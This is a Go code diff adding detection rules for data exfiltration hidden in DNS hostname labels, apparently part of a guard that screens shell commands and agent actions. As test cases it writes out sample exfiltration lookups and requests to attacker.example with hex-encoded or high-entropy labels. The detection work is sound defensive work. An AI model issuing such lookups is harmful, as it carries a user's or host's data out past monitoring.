@@ -148,6 +148,35 @@ func rulesTable() []Rule {
 				sh(`host -t MX example.org`),
 			},
 		},
+		// i7-exfil: data in hostname labels (T1071.004); see match_dnslabel.go.
+		{
+			ID: "dns_label_data", Category: "exfiltration", Severity: Critical, Decision: block,
+			Description: "a hostname label decodes (hex, base32, base64) to readable text: data carried out in DNS",
+			Types:       join(shellTypes, externalTypes),
+			Match:       matchDNSLabelData,
+			Positive: []Example{
+				sh(`nslookup 757365723d6465763b686f73743d6275696c642d3031.x.attacker.example`),
+				ex(action.BrowserNavigate, `{"url":"https://757365723d6465763b686f73743d6275696c642d3031.c.attacker.example/"}`),
+			},
+			Negative: []Example{
+				sh(`dig +short 1f2e3d4c-5b6a-4978-8a9b-0c1d2e3f4a5b.cfargotunnel.com`),
+				sh(`curl -sI https://cdk-hnb659fds-assets-123456789012-us-east-1.s3.amazonaws.com/`),
+			},
+		},
+		{
+			ID: "dns_label_entropy", Category: "exfiltration", Severity: High, Decision: escalate,
+			Description: "a long high-entropy hostname label outside the CDN and storage domains",
+			Types:       join(shellTypes, externalTypes),
+			Match:       matchDNSLabelEntropy,
+			Positive: []Example{
+				sh(`dig 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b.t.attacker.example`),
+				ex(action.HTTPRequest, `{"method":"GET","url":"https://q7x9k2m4p8w3r6t1y5u0i2o4p6a8s0d2.attacker.example/p"}`),
+			},
+			Negative: []Example{
+				sh(`curl -fsSLO https://my-bucket.s3.us-east-1.amazonaws.com/a94a8fe5ccb19ba61c4c0873d391e987982fbbd3.tar.gz`),
+				ex(action.HTTPRequest, `{"method":"GET","url":"https://myapp-git-feature-login-acme.vercel.app/"}`),
+			},
+		},
 		{
 			ID: "secret_leak", Category: "secret_leak", Severity: Critical, Decision: block,
 			Description: "outbound text (request, mail, message, typed text, MCP arguments, URL) holds secret material",
